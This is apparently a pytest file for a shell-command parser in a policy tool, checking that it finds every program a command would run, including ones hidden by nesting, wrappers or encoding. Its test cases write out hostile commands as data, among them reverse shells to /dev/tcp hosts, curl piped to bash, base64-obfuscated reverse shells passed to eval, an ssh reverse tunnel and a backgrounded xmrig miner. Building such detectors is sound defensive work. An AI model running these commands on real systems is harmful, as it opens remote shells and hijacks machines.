"""shell.parse: every program a command would run, read as tables of shell shapes."""

from __future__ import annotations

import base64
import shlex
import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corral.policy.shell import Invocation, ParsedCommand, Redirect, parse


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def ok(cmd: str) -> ParsedCommand:
    parsed = parse(cmd)
    assert parsed.error is None, parsed.error
    return parsed


def inv(parsed: ParsedCommand, program: str, nth: int = 0) -> Invocation:
    found = [i for i in parsed.invocations if i.program == program]
    assert len(found) > nth, f"{program!r} not among {parsed.programs}"
    return found[nth]


SSH_TUNNEL = "ssh -fN -R 2222:localhost:22 ops@203.0.113.7"

# -- statements: every program, in source order -------------------------------------

STRUCTURE = [
    ("ls -la", ["ls"]),
    ("a | b | c", ["a", "b", "c"]),
    ("a |& b", ["a", "b"]),
    ("a; b && c || d", ["a", "b", "c", "d"]),
    ("a\nb\n\nc", ["a", "b", "c"]),
    ("(a; b) && { c; d; }", ["a", "b", "c", "d"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
    ("for x in 1 2; do b $x; done", ["b"]),
    ("for ((i=0; i<3; i++)); do b; done", ["b"]),
    ("select s in a b; do b; break; done", ["b", "break"]),
    ("case $x in a|b) c ;; *) d ;; esac", ["c", "d"]),
    ("f() { a; b; }; f", ["a", "b", "f"]),
    ("function g { a; }", ["a"]),
    ("! grep x y", ["grep"]),
    ("time ls -la", ["time", "ls"]),
    ("(( x = 1 + 2 )) && echo ok", ["echo"]),
    ("[[ -f x ]] && [ -d y ] && echo ok", ["echo"]),
    ("# just a comment", []),
    ("", []),
    ("echo a # trailing comment", ["echo"]),
    ("ls \\\n  -la", ["ls"]),
]


@pytest.mark.parametrize(("cmd", "programs"), STRUCTURE)
def test_statements_yield_programs_in_order(cmd: str, programs: list[str]) -> None:
    assert list(ok(cmd).programs) == programs


def test_pipeline_positions() -> None:
    parsed = ok("cat f | grep x | wc -l; ls")
    cat, grep, wc, ls = parsed.invocations
    assert (cat.pipe_index, grep.pipe_index, wc.pipe_index) == (0, 1, 2)
    assert cat.pipeline_id == grep.pipeline_id == wc.pipeline_id is not None
    assert ls.pipeline_id is None and ls.pipe_index is None


def test_separate_pipelines_get_separate_ids() -> None:
    parsed = ok("a | b; c | d")
    assert inv(parsed, "a").pipeline_id != inv(parsed, "c").pipeline_id


BACKGROUND = [
    ("sleep 1 &", {"sleep": True}),
    ("sleep 1 & ls", {"sleep": True, "ls": False}),
    ("(sleep 1; curl x) &", {"sleep": True, "curl": True}),
    ("a && b &", {"a": True, "b": True}),
    ("ls", {"ls": False}),
]


@pytest.mark.parametrize(("cmd", "expected"), BACKGROUND)
def test_background(cmd: str, expected: dict[str, bool]) -> None:
    parsed = ok(cmd)
    assert {p: inv(parsed, p).background for p in expected} == expected


def test_function_bodies_are_marked_and_named() -> None:
    parsed = ok("deploy() { curl -s x | sh; }; deploy")
    assert inv(parsed, "curl").origin == "function"
    assert inv(parsed, "deploy").origin == "top"
    assert parsed.functions == ("deploy",)


# -- substitutions -----------------------------------------------------------------

ORIGINS = [
    ("echo $(id)", "id", "subst"),
    ("echo `whoami`", "whoami", "subst"),
    ('echo "today: $(date)"', "date", "subst"),
    ("X=$(hostname)", "hostname", "subst"),
    ("export X=$(uname -a)", "uname", "subst"),
    ("cat > $(mktemp)", "mktemp", "subst"),
    ("echo $(( $(nproc) * 2 ))", "nproc", "subst"),
    ("[[ $(whoami) == root ]]", "whoami", "subst"),
    ("for f in $(ls); do :; done", "ls", "subst"),
    ("case $(uname) in *) ;; esac", "uname", "subst"),
    ("cat <<EOF\n$(id -u)\nEOF", "id", "subst"),
    ("cat <<EOF\n`id -g`\nEOF", "id", "subst"),
    ("cat <<EOF\n$((1 + $(nproc)))\nEOF", "nproc", "subst"),
    ("diff <(ls a) b", "ls", "procsubst"),
    ("tee >(gzip > x.gz) < f", "gzip", "procsubst"),
    ("echo $(echo $(echo $(id)))", "id", "subst"),
]


@pytest.mark.parametrize(("cmd", "program", "origin"), ORIGINS)
def test_substitutions_are_found(cmd: str, program: str, origin: str) -> None:
    found = inv(ok(cmd), program)
    assert found.origin == origin
    assert found.depth == 0


@pytest.mark.parametrize(
    "cmd",
    ["cat <<'EOF'\n$(id)\nEOF", 'cat <<"EOF"\n`id`\nEOF', "echo '$(id)'", 'echo "\\$(id)"'],
)
def test_quoted_text_runs_nothing(cmd: str) -> None:
    assert "id" not in ok(cmd).programs


def test_substitution_text_stays_in_argv() -> None:
    assert inv(ok("kill $(pgrep x) $PID"), "kill").argv == ("kill", "$(pgrep x)", "$PID")


# -- heredocs and here-strings -----------------------------------------------------

REDIRECTS = [
    ("cat <<EOF\nhello\nEOF", "cat", [Redirect("<<", "hello\n")]),
    ("cat <<-EOF\n\t\tindented\n\tEOF", "cat", [Redirect("<<-", "indented\n")]),
    (
        "cat <<'EOF' > f.py\n    x = 1\nEOF",
        "cat",
        [Redirect("<<", "    x = 1\n"), Redirect(">", "f.py")],
    ),
    ("grep x <<< 'a b'", "grep", [Redirect("<<<", "a b")]),
    ("echo hi > out.txt 2>&1", "echo", [Redirect(">", "out.txt"), Redirect(">&", "1", "2")]),
    (
        "echo hi >> log 2>/dev/null",
        "echo",
        [Redirect(">>", "log"), Redirect(">", "/dev/null", "2")],
    ),
    ("cmd &> all.log", "cmd", [Redirect("&>", "all.log")]),
    ("cmd &>> all.log", "cmd", [Redirect("&>>", "all.log")]),
    ("cmd >| forced", "cmd", [Redirect(">|", "forced")]),
    ("cat < in.txt", "cat", [Redirect("<", "in.txt")]),
    ("cat 0<&3 >&-", "cat", [Redirect("<&", "3", "0"), Redirect(">&", "-")]),
    ("exec 3<>/dev/tcp/1.2.3.4/4444", "exec", [Redirect("<>", "/dev/tcp/1.2.3.4/4444", "3")]),
    (
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "bash",
        [Redirect(">&", "/dev/tcp/10.0.0.1/4242"), Redirect(">&", "1", "0")],
    ),
    ("cat < /dev/tcp/h/80", "cat", [Redirect("<", "/dev/tcp/h/80")]),
    ("echo x > /dev/udp/8.8.8.8/53", "echo", [Redirect(">", "/dev/udp/8.8.8.8/53")]),
    ('echo x > "$HOME/.bashrc"', "echo", [Redirect(">", "~/.bashrc")]),
    ("echo x > '/tmp/a b'", "echo", [Redirect(">", "/tmp/a b")]),
    ("ls 2>&1 <<< x", "ls", [Redirect(">&", "1", "2"), Redirect("<<<", "x")]),
]


@pytest.mark.parametrize(("cmd", "program", "redirects"), REDIRECTS)
def test_redirects(cmd: str, program: str, redirects: list[Redirect]) -> None:
    assert list(inv(parse(cmd), program).redirects) == redirects


def test_redirect_only_command_is_an_empty_invocation() -> None:
    (only,) = ok("> /dev/tcp/h/p").invocations
    assert only.argv == () and only.program == ""
    assert only.redirects == (Redirect(">", "/dev/tcp/h/p"),)


def test_read_from_tcp_in_substitution() -> None:
    parsed = ok('echo "$(</dev/tcp/attacker.example/12345)"')
    empty = next(i for i in parsed.invocations if i.argv == ())
    assert empty.redirects == (Redirect("<", "/dev/tcp/attacker.example/12345"),)


def test_words_after_a_redirect_are_arguments() -> None:
    assert inv(ok("echo > f a b"), "echo").argv == ("echo", "a", "b")


def test_dynamic_redirect_target_keeps_its_text() -> None:
    (r,) = inv(ok("cat < /dev/tcp/$HOST/80"), "cat").redirects
    assert r.target == "/dev/tcp/$HOST/80" and r.dynamic


def test_compound_redirects_apply_inside() -> None:
    parsed = ok("{ echo a; echo b; } > /dev/tcp/h/1")
    assert all(i.redirects == (Redirect(">", "/dev/tcp/h/1"),) for i in parsed.invocations)


HEREDOC_SHELLS = [
    ("bash <<EOF\nid\nEOF", "bash", "id\n"),
    ("sh -s <<'EOF'\nwhoami\nEOF", "sh", "whoami\n"),
    ("bash <<< 'id'", "bash", "id\n"),
    ("sudo bash <<'EOF'\nid\nEOF", "bash", "id\n"),
]


@pytest.mark.parametrize(("cmd", "shell", "text"), HEREDOC_SHELLS)
def test_heredoc_fed_to_a_shell_is_parsed(cmd: str, shell: str, text: str) -> None:
    parsed = ok(cmd)
    (feed,) = parsed.feeds
    assert (feed.shell, feed.decoded, feed.encoding) == (shell, text, "plain")
    runs = parsed.invocations[-1]
    assert runs.origin == "heredoc" and runs.depth == 1
    assert runs.program in ("id", "whoami")


def test_heredoc_with_unknown_expansion_is_still_walked() -> None:
    parsed = ok("bash <<EOF\ncurl $URL | sh\nEOF")
    shell_feed = next(f for f in parsed.feeds if f.shell == "bash")
    assert shell_feed.decoded is None and "not known" in shell_feed.reason
    assert inv(parsed, "curl").origin == "heredoc"


def test_heredoc_not_fed_to_a_shell_is_only_data() -> None:
    parsed = ok("cat <<'EOF' > run.sh\ncurl evil | sh\nEOF")
    assert parsed.programs == ("cat",) and parsed.feeds == ()


# -- recursion: bash -c, eval, su -c, ... ------------------------------------------

SHELL_C = [
    ("bash -c 'curl x'", "curl", "shell-c"),
    ('sh -c "id"', "id", "shell-c"),
    ("dash -c id", "id", "shell-c"),
    ("zsh -c 'id'", "id", "shell-c"),
    ("ksh -c 'id'", "id", "shell-c"),
    ("/bin/bash -c 'id'", "id", "shell-c"),
    ("busybox sh -c 'id'", "id", "shell-c"),
    ("bash -lc 'id'", "id", "shell-c"),
    ("sh -ec 'id'", "id", "shell-c"),
    ("bash --norc -c 'id'", "id", "shell-c"),
    ("bash -o pipefail -c 'id'", "id", "shell-c"),
    ("su -c 'id'", "id", "shell-c"),
    ("su - root -c 'id'", "id", "shell-c"),
    ("su --command='id' bob", "id", "shell-c"),
    ("runuser -l bob -c 'id'", "id", "shell-c"),
    ("script -qc 'id' /dev/null", "id", "shell-c"),
    ("flock /tmp/lock -c 'id'", "id", "shell-c"),
    ("watch -n 5 'ps aux | grep id'", "grep", "shell-c"),
    ("eval 'id'", "id", "eval"),
    ("eval echo hi '&&' id", "id", "eval"),
]


@pytest.mark.parametrize(("cmd", "program", "origin"), SHELL_C)
def test_shell_strings_are_parsed(cmd: str, program: str, origin: str) -> None:
    found = inv(ok(cmd), program)
    assert (found.origin, found.depth) == (origin, 1)


def test_ssh_remote_commands_are_not_recursed() -> None:
    assert ok("ssh host 'rm -rf /tmp/x'").programs == ("ssh",)


def test_nesting_depth_is_tracked() -> None:
    parsed = ok("bash -c \"sh -c 'eval id'\"")
    assert [(i.program, i.depth) for i in parsed.invocations] == [
        ("bash", 0),
        ("sh", 1),
        ("eval", 2),
        ("id", 3),
    ]


def test_nesting_beyond_max_depth_is_an_error() -> None:
    cmd = "ls"
    for _ in range(4):
        cmd = f"eval {shlex.quote(cmd)}"
    assert parse(cmd, max_depth=4).error is None
    assert parse(cmd, max_depth=3).error == "nesting deeper than 3 levels"


def test_eval_shares_variables() -> None:
    assert inv(ok("eval 'X=nc'; $X -l 1"), "nc").argv == ("nc", "-l", "1")


# -- wrappers ----------------------------------------------------------------------

WRAPPERS = [
    ("sudo -u root env FOO=1 nice -n 5 python x.py", ("python", "x.py"), ("sudo", "env", "nice")),
    ("nohup ./xmrig -o x", ("./xmrig", "-o", "x"), ("nohup",)),
    ("env -i PATH=/bin -u HOME -C /tmp ls", ("ls",), ("env",)),
    ("env -S 'python3 -u' x.py", ("python3", "-u", "x.py"), ("env",)),
    ("timeout -s KILL -k 5 30 curl x", ("curl", "x"), ("timeout",)),
    ("timeout --signal=TERM 1m make", ("make",), ("timeout",)),
    ("sudo -E -n -H -g wheel -- make", ("make",), ("sudo",)),
    ("doas -u root id", ("id",), ("doas",)),
    ("setsid -f -w nc -l 1", ("nc", "-l", "1"), ("setsid",)),
    ("nice -5 make", ("make",), ("nice",)),
    ("nice -n5 make", ("make",), ("nice",)),
    ("ionice -c 3 -n 7 rsync a b", ("rsync", "a", "b"), ("ionice",)),
    ("stdbuf -oL -e 0 grep x", ("grep", "x"), ("stdbuf",)),
    ("command -p ls", ("ls",), ("command",)),
    ("builtin echo x", ("echo", "x"), ("builtin",)),
    ("exec -a name -c bash", ("bash",), ("exec",)),
    ("time -p ls", ("ls",), ("time",)),
    ("chroot /mnt /bin/sh -c id", ("/bin/sh", "-c", "id"), ("chroot",)),
    ("chroot /mnt", ("sh", "-i"), ("chroot",)),
    ("flock -w 5 /tmp/l make all", ("make", "all"), ("flock",)),
    ("unbuffer -p tail -f x", ("tail", "-f", "x"), ("unbuffer",)),
    ("strace -f -e trace=network -o out curl x", ("curl", "x"), ("strace",)),
    ("ltrace -e malloc ./a", ("./a",), ("ltrace",)),
    ("taskset 0x3 ./a", ("./a",), ("taskset",)),
    ("taskset -c 0,1 ./a", ("./a",), ("taskset",)),
    ("chrt -f 99 ./a", ("./a",), ("chrt",)),
    ("busybox nc -l -p 1", ("nc", "-l", "-p", "1"), ("busybox",)),
    ("catchsegv ./a", ("./a",), ("catchsegv",)),
    ("faketime '2020-01-01' date", ("date",), ("faketime",)),
    ("proxychains curl x", ("curl", "x"), ("proxychains",)),
    ("proxychains4 -q -f p.conf curl x", ("curl", "x"), ("proxychains4",)),
    ("torsocks ssh h", ("ssh", "h"), ("torsocks",)),
    ("tsocks ssh h", ("ssh", "h"), ("tsocks",)),
    ("sudo -s", ("sh",), ("sudo",)),
    ("sudo -i", ("sh",), ("sudo",)),
    ("sudo timeout 5 nohup ssh h", ("ssh", "h"), ("sudo", "timeout", "nohup")),
    ("runuser -u bob -- ls", ("ls",), ("runuser",)),
]


@pytest.mark.parametrize(("cmd", "argv", "wrappers"), WRAPPERS)
def test_wrappers_are_stripped(cmd: str, argv: tuple[str, ...], wrappers: tuple[str, ...]) -> None:
    parsed = ok(cmd)
    inner = parsed.invocations[len(wrappers)]
    assert (inner.argv, inner.wrappers) == (argv, wrappers)
    # each wrapper is an invocation too, with its full argv
    assert [i.program for i in parsed.invocations[: len(wrappers)]] == list(wrappers)
    assert parsed.invocations[0].argv == tuple(shlex.split(cmd))


def test_wrapped_command_keeps_redirects_and_background() -> None:
    parsed = ok("nohup ./miner > /dev/null 2>&1 &")
    miner = inv(parsed, "miner")
    assert miner.background and miner.wrappers == ("nohup",)
    assert Redirect(">", "/dev/null") in miner.redirects


NOT_RUN = [
    ("command -v python", "python"),
    ("command -V ls", "ls"),
    ("sudo -l ls", "ls"),
    ("sudo -e /etc/hosts", "/etc/hosts"),
    ("env", "env-child"),
    ("strace -p 1234", "1234"),
    ("taskset -p 0x3 1234", "1234"),
    ("su bob", "bob"),
]


@pytest.mark.parametrize(("cmd", "absent"), NOT_RUN)
def test_options_that_run_nothing(cmd: str, absent: str) -> None:
    parsed = ok(cmd)
    assert all(i.program != absent and absent not in i.argv[:1] for i in parsed.invocations[1:])
    assert len(parsed.invocations) == 1


def test_xargs() -> None:
    parsed = ok("echo a b | xargs -I{} sh -c 'echo {}'")
    assert parsed.programs == ("echo", "xargs", "sh", "echo")
    sh = inv(parsed, "sh")
    assert (sh.origin, sh.wrappers, sh.argv) == ("xargs", ("xargs",), ("sh", "-c", "echo {}"))
    inner = inv(parsed, "echo", 1)
    assert (inner.origin, inner.depth, inner.argv) == ("shell-c", 1, ("echo", "{}"))


@pytest.mark.parametrize(
    ("cmd", "argv"),
    [
        ("xargs -0 -n1 -P4 rm -f", ("rm", "-f")),
        ("xargs -d '\\n' -L 1 -s 100 -a list.txt grep x", ("grep", "x")),
        ("xargs --max-args=2 --null echo", ("echo",)),
        ("xargs", ("echo",)),
    ],
)
def test_xargs_options(cmd: str, argv: tuple[str, ...]) -> None:
    last = ok(cmd).invocations[-1]
    assert (last.argv, last.origin) == (argv, "xargs")


def test_find_exec() -> None:
    parsed = ok("find . -name '*.py' -exec rm {} \\;")
    assert parsed.programs == ("find", "rm")
    rm = inv(parsed, "rm")
    assert (rm.argv, rm.origin, rm.wrappers) == (("rm", "{}"), "find-exec", ("find",))


def test_find_several_execs() -> None:
    parsed = ok("find / -execdir sh -c 'id' \\; -ok rm {} + -okdir cat {} ';'")
    assert parsed.programs == ("find", "sh", "id", "rm", "cat")
    assert inv(parsed, "id").origin == "shell-c"


def test_busybox_applet_is_the_program() -> None:
    assert inv(ok("busybox wget http://x"), "wget").wrappers == ("busybox",)


# -- words and variables -----------------------------------------------------------

WORDS = [
    ("echo \"a\"'b'c", ("echo", "abc")),
    ("echo $'\\x41\\n'", ("echo", "A\n")),
    ("echo $'\\101\\u00e9'", ("echo", "Aé")),
    ("echo a\\ b", ("echo", "a b")),
    ('echo "a \\"q\\" \\$x"', ("echo", 'a "q" $x')),
    ('echo ""', ("echo", "")),
    ('X=1; echo $X ${X} "$X"', ("echo", "1", "1", "1")),
    ("export A=/tmp B; ls $A/x", ("ls", "/tmp/x")),
    ("local L=v; echo $L", ("echo", "v")),
    ("declare -x D=w; echo $D", ("echo", "w")),
    ("readonly R=z; echo $R", ("echo", "z")),
    ("X=a; X+=b; echo $X", ("echo", "ab")),
    ('echo $HOME/.ssh ${HOME}/x "$HOME" ~/.aws', ("echo", "~/.ssh", "~/x", "~", "~/.aws")),
    ('echo $PID ${X:-d} $1 "$@"', ("echo", "$PID", "${X:-d}", "$1", "$@")),
    ("X='a  b'; printf %s $X \"$X\"", ("printf", "%s", "a", "b", "a  b")),
    ("E=; ls $E x", ("ls", "x")),
    ("echo {a,b}.txt {1..3}", ("echo", "a.txt", "b.txt", "1", "2", "3")),
    ("echo {} {a}", ("echo", "{}", "{a}")),
    ("echo $(echo hi)", ("echo", "hi")),
    ("X=1 Y=2 env", ("env",)),
    ("X=$(echo ls); echo $X", ("echo", "ls")),
    ("IFS=,; C=a,b; echo $C", ("echo", "a", "b")),
    ("echo x${IFS}y", ("echo", "x", "y")),
]


@pytest.mark.parametrize(("cmd", "argv"), WORDS)
def test_words(cmd: str, argv: tuple[str, ...]) -> None:
    assert ok(cmd).invocations[-1].argv == argv


DYNAMIC = [
    ("$CMD -x", ("$CMD", "-x"), True),
    ("$(which nc) -l 1", ("$(which nc)", "-l", "1"), True),
    ("CMD='nc -e /bin/sh h 1'; $CMD", ("nc", "-e", "/bin/sh", "h", "1"), False),
    ("X=ls; false && X='rm -rf /'; $X", ("$X",), True),
    ("X='nc h 1'; false && X=ls; $X", ("$X",), True),
    ("(X=ls); $X", ("$X",), True),
    ("for X in a; do :; done; $X", ("$X",), True),
    ("X=ls; read X; $X", ("$X",), True),
    ("X=ls; unset X; $X", ("$X",), True),
    ("cat${IFS}/etc/passwd", ("cat", "/etc/passwd"), False),
]


@pytest.mark.parametrize(("cmd", "argv", "dynamic"), DYNAMIC)
def test_dynamic_programs(cmd: str, argv: tuple[str, ...], dynamic: bool) -> None:
    last = [i for i in ok(cmd).invocations if i.origin == "top"][-1]
    assert (last.argv, last.dynamic_program) == (argv, dynamic)


def test_prefix_assignments_are_not_variables() -> None:
    parsed = ok("X=1 cmd $X")
    assert parsed.invocations[0].argv == ("cmd", "$X")
    assert dict(parsed.variables) == {}


def test_variables_are_reported() -> None:
    assert dict(ok("A=1; export B=two; C=$(date)").variables) == {"A": "1", "B": "two"}


def test_brace_expansion_as_a_program() -> None:
    parsed = parse("{cat,/etc/passwd}")
    assert parsed.error is None and parsed.partial
    assert parsed.invocations[0].argv == ("cat", "/etc/passwd")


def test_oversized_brace_word_is_dynamic() -> None:
    assert ok("{a,b}" * 20).invocations[0].dynamic_program


# -- shell feeds and decoding -------------------------------------------------------

FEEDS = [
    # command, shell, encoding, decoded, producers
    (f"echo {b64('ls -la')} | base64 -d | sh", "sh", "base64", "ls -la", ("echo", "base64")),
    (
        f"echo {b64('ls -la')} | base64 --decode | bash",
        "bash",
        "base64",
        "ls -la",
        ("echo", "base64"),
    ),
    (f"echo {b64('ls -la')} | base64 -D | sh", "sh", "base64", "ls -la", ("echo", "base64")),
    (f"base64 -d <<< {b64('ls -la')} | bash", "bash", "base64", "ls -la", ("base64",)),
    (
        f"printf %s {b64('ls -la')} | base64 -d | bash",
        "bash",
        "base64",
        "ls -la",
        ("printf", "base64"),
    ),
    (f'eval "$(echo {b64("ls -la")} | base64 -d)"', "eval", "base64", "ls -la", ("echo", "base64")),
    (
        f'bash -c "$(echo {b64("ls -la")} | base64 --decode)"',
        "bash",
        "base64",
        "ls -la",
        ("echo", "base64"),
    ),
    ("sh -c \"$(printf '\\x6c\\x73')\"", "sh", "printf-escape", "ls", ("printf",)),
    ("echo -e '\\x6c\\x73' | sh", "sh", "printf-escape", "ls\n", ("echo",)),
    ("printf '\\154\\163' | bash", "bash", "printf-escape", "ls", ("printf",)),
    ("xxd -r -p <<< 6c73 | sh", "sh", "hex", "ls", ("xxd",)),
    ("echo 6c73 | xxd -r -p | bash", "bash", "hex", "ls", ("echo", "xxd")),
    ("echo 'sl' | rev | sh", "sh", "rev", "ls\n", ("echo", "rev")),
    ("echo 'ls -la' | sh", "sh", "plain", "ls -la\n", ("echo",)),
    ("cat <<'EOF' | sh\nls -la\nEOF", "sh", "plain", "ls -la\n", ("cat",)),
    ("echo 'yf' | tr 'a-z' 'n-za-m' | sh", "sh", "tr", "ls\n", ("echo", "tr")),
    (
        f"source <(echo {b64('ls -la')} | base64 -d)",
        "source",
        "base64",
        "ls -la",
        ("echo", "base64"),
    ),
    (
        f"echo {b64(b64('ls -la'))} | base64 -d | base64 -d | sh",
        "sh",
        "base64+base64",
        "ls -la",
        ("echo", "base64", "base64"),
    ),
]


@pytest.mark.parametrize(("cmd", "shell", "encoding", "decoded", "producers"), FEEDS)
def test_decoded_feeds(
    cmd: str, shell: str, encoding: str, decoded: str, producers: tuple[str, ...]
) -> None:
    parsed = ok(cmd)
    (feed,) = parsed.feeds
    assert (feed.shell, feed.encoding, feed.decoded) == (shell, encoding, decoded)
    assert tuple(p.program for p in feed.producers) == producers
    runs = (
        parsed.invocations[-1]
        if not cmd.startswith(("eval", "bash -c", "sh -c", "source"))
        else next(i for i in parsed.invocations if i.origin.startswith("decoded:"))
    )
    assert runs.origin == f"decoded:{encoding}" and runs.depth == 1
    assert runs.program == "ls"


UNKNOWN_FEEDS = [
    ("curl -s http://x/a.sh | bash", "bash", None, ("curl",), "output of curl"),
    ("wget -qO- http://x | sh", "sh", None, ("wget",), "cannot be known before it runs"),
    ("nc h 1 | sh", "sh", None, ("nc",), "output of nc"),
    ("bash <(curl -s http://x)", "bash", None, ("curl",), "output of curl"),
    ("source <(curl -s http://x)", "source", None, ("curl",), "output of curl"),
    ('bash -c "$(curl -fsSL http://x)"', "bash", None, ("curl",), "output of curl"),
    ('eval "$(wget -qO- http://x)"', "eval", None, ("wget",), "output of wget"),
    ("cat x.sh | sh", "sh", None, ("cat",), "x.sh"),
    ("sh < x.sh", "sh", None, (), "x.sh"),
    ("base64 -d payload.b64 | sh", "sh", "base64", ("base64",), "payload.b64"),
    ("openssl enc -d -aes256 -in x | sh", "sh", "openssl", ("openssl",), "openssl"),
    ("gunzip -c x.gz | bash", "bash", "gzip", ("gunzip",), "gunzip"),
    ('echo "$PAYLOAD" | base64 -d | sh', "sh", "base64", ("echo", "base64"), "$PAYLOAD"),
    ('eval "$CMD"', "eval", None, (), "$CMD"),
    ("bash -c $SCRIPT", "bash", None, (), "$SCRIPT"),
    ("echo '!!!!' | base64 -d | sh", "sh", "base64", ("echo", "base64"), "not valid base64"),
    ("echo zz | xxd -r -p | sh", "sh", "hex", ("echo", "xxd"), "not valid hex"),
    ("echo //79 | base64 -d | sh", "sh", "base64", ("echo", "base64"), "binary"),
    ("curl x | sudo -s", "sh", None, ("curl",), "output of curl"),
    ("curl x | sudo bash -s -- arg", "bash", None, ("curl",), "output of curl"),
    ("curl x | (bash)", "bash", None, ("curl",), "output of curl"),
]


@pytest.mark.parametrize(("cmd", "shell", "encoding", "producers", "reason"), UNKNOWN_FEEDS)
def test_unknown_feeds(
    cmd: str, shell: str, encoding: str | None, producers: tuple[str, ...], reason: str
) -> None:
    parsed = ok(cmd)
    feed = next(f for f in parsed.feeds if f.shell == shell)
    assert feed.decoded is None
    assert feed.encoding == encoding
    assert tuple(p.program for p in feed.producers) == producers
    assert reason in feed.reason


def test_binary_reason_starts_with_binary() -> None:
    (feed,) = ok("echo //79 | base64 -d | sh").feeds
    assert feed.reason.startswith("binary")


def test_printed_text_with_unknown_variables_is_still_walked() -> None:
    parsed = ok('echo "rm -rf $DIR" | sh')
    (feed,) = parsed.feeds
    assert feed.decoded is None and "$DIR" in feed.reason
    rm = inv(parsed, "rm")
    assert (rm.argv, rm.origin) == (("rm", "-rf", "$DIR"), "decoded:plain")


NO_FEEDS = [
    "bash script.sh",
    "bash -c 'ls'",
    "python3 -c 'print(1)'",
    "echo hi | grep h",
    "cat x | python",
    'sh -c "cd $DIR && make"',
    "bash",
]


@pytest.mark.parametrize("cmd", NO_FEEDS)
def test_no_feed(cmd: str) -> None:
    assert ok(cmd).feeds == ()


def test_decoded_command_word_is_a_feed() -> None:
    parsed = ok(f"$(echo {b64('nc')} | base64 -d) -l 4444")
    nc = inv(parsed, "nc")
    assert nc.argv == ("nc", "-l", "4444") and not nc.dynamic_program
    (feed,) = parsed.feeds
    assert (feed.shell, feed.encoding, feed.decoded) == ("exec", "base64", "nc")


def test_decoding_size_cap() -> None:
    big = b64("#" * 1_100_000)
    (feed,) = parse(f"echo {big} | base64 -d | sh", max_length=2_000_000).feeds
    assert feed.decoded is None and "1 MB" in feed.reason


# -- attack shapes ------------------------------------------------------------------


def test_attack_ssh_tunnel_hidden_in_base64() -> None:
    parsed = ok(f"echo {b64(SSH_TUNNEL)} | base64 -d | sh")
    ssh = inv(parsed, "ssh")
    assert "-R" in ssh.argv and ssh.argv[-1] == "ops@203.0.113.7"
    assert (ssh.origin, ssh.depth) == ("decoded:base64", 1)
    assert parsed.feeds[0].decoded == SSH_TUNNEL


def test_attack_bash_reverse_shell() -> None:
    bash = inv(ok("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), "bash")
    assert bash.argv == ("bash", "-i")
    assert bash.redirects[0].target == "/dev/tcp/10.0.0.1/4242"


def test_attack_background_miner() -> None:
    parsed = ok("nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 &")
    miner = inv(parsed, "xmrig")
    assert miner.background and miner.wrappers == ("nohup",)
    assert miner.argv == ("./xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444")
    assert inv(parsed, "nohup").background


def test_attack_curl_pipe_bash() -> None:
    (feed,) = ok("curl -s http://x/a.sh | bash").feeds
    assert feed.decoded is None and [p.program for p in feed.producers] == ["curl"]


def test_attack_exec_tcp_fd() -> None:
    parsed = ok("exec 3<>/dev/tcp/1.2.3.4/4444; cat <&3 | sh >&3")
    assert inv(parsed, "exec").argv == ("exec",)
    assert inv(parsed, "exec").redirects == (Redirect("<>", "/dev/tcp/1.2.3.4/4444", "3"),)


def test_attack_obfuscated_reverse_shell_in_eval() -> None:
    payload = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"
    parsed = ok(f"eval $(echo {b64(payload)} | base64 -d)")
    bash = inv(parsed, "bash")
    assert bash.origin == "decoded:base64"
    assert bash.redirects[0].target == "/dev/tcp/10.0.0.1/4242"


def test_attack_brace_and_ifs_tricks() -> None:
    assert inv(parse("{nc,-e,/bin/sh,h,1}"), "nc").argv == ("nc", "-e", "/bin/sh", "h", "1")
    assert inv(ok("nc${IFS}-e${IFS}/bin/sh${IFS}h${IFS}1"), "nc").argv[:3] == (
        "nc",
        "-e",
        "/bin/sh",
    )


# -- errors and partial parses -----------------------------------------------------

ERRORS = [
    ('echo "abc', ("quote", "EOF")),
    ("echo 'abc", ("quote", "EOF")),
    ("echo $(ls", ("EOF",)),
    ("ls &&", ("syntax error",)),
    ("if true; then", ("syntax error",)),
    ("bash -c 'echo \"x'", ("quote", "shell-c")),
    ("echo \x00", ("NUL",)),
]


@pytest.mark.parametrize(("cmd", "words"), ERRORS)
def test_errors(cmd: str, words: tuple[str, ...]) -> None:
    parsed = parse(cmd)
    assert parsed.error is not None
    for w in words:
        assert w in parsed.error


def test_too_long() -> None:
    assert parse("ls " + "a" * 50, max_length=20).error == "command longer than 20 characters"


def test_not_a_string() -> None:
    assert parse(b"ls").error == "command is not a string"  # type: ignore[arg-type]


def test_deep_nesting_is_an_error_not_a_crash() -> None:
    assert parse("(" * 5000 + "ls" + ")" * 5000).error is not None


PARTIAL = [
    # tree-sitter-bash errs, bash accepts: walk what can be walked, say it is partial
    ("{cat,/etc/passwd}", "cat"),
    ("ls 2>&1 <<< x", "ls"),
]


@pytest.mark.parametrize(("cmd", "program"), PARTIAL)
def test_partial(cmd: str, program: str) -> None:
    parsed = parse(cmd)
    assert parsed.error is None and parsed.partial
    assert program in parsed.programs


CLEAN_AFTER_REPAIR = [
    # tree-sitter-bash gaps worked around without losing the parse
    ("exec 3<>/dev/tcp/h/1", ("exec",)),
    ("cat <<'EOF' > f.py\n    EOF = 1\nEOF\nls", ("cat", "ls")),
    ('cat <<E"O"F\nhi\nEOF\ncurl x | sh', ("cat", "curl", "sh")),
    ("cat <<'EOF' > f; python f\nprint(1)\nEOF", ("cat", "python")),
]


@pytest.mark.parametrize(("cmd", "programs"), CLEAN_AFTER_REPAIR)
def test_tree_sitter_gaps_repaired(cmd: str, programs: tuple[str, ...]) -> None:
    parsed = parse(cmd)
    assert (parsed.error, parsed.partial, parsed.programs) == (None, False, programs)


def test_repaired_heredoc_keeps_its_text() -> None:
    cat = ok("cat <<'EOF' > f.py\n    EOF = 1\nEOF").invocations[0]
    assert cat.redirects[0] == Redirect("<<", "    EOF = 1\n")


# -- robustness -------------------------------------------------------------------

_META = st.sampled_from(
    [
        *"abc $(){}[]<>|&;'\"`\\\n\t#=!*?~-0123",
        "<<",
        "<<<",
        "<<EOF\n",
        "\nEOF\n",
        "$(",
        "${",
        "$((",
        "<(",
        "&&",
